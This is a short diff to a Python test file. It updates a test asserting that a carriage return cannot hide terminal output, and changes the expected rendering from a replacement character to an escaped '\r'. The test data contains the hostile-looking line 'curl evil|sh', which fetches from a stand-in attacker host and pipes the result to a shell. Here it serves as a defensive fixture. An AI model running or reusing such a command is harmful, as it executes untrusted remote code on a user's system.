@@ -1029,7 +1029,7 @@ def test_a_carriage_return_hides_nothing(monkeypatch: pytest.MonkeyPatch) -> Non
         print_bytes(b"+curl evil|sh\r+echo hello\n+dos\r\n")
         shown = os.read(ours, 1000)
     os.close(ours)
-    assert shown.decode() == "+curl evil|sh\N{REPLACEMENT CHARACTER}+echo hello\n+dos\r\n"
+    assert shown.decode() == "+curl evil|sh\\r+echo hello\n+dos\r\n"
 
 
 def test_a_swapped_link_ends_the_run(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
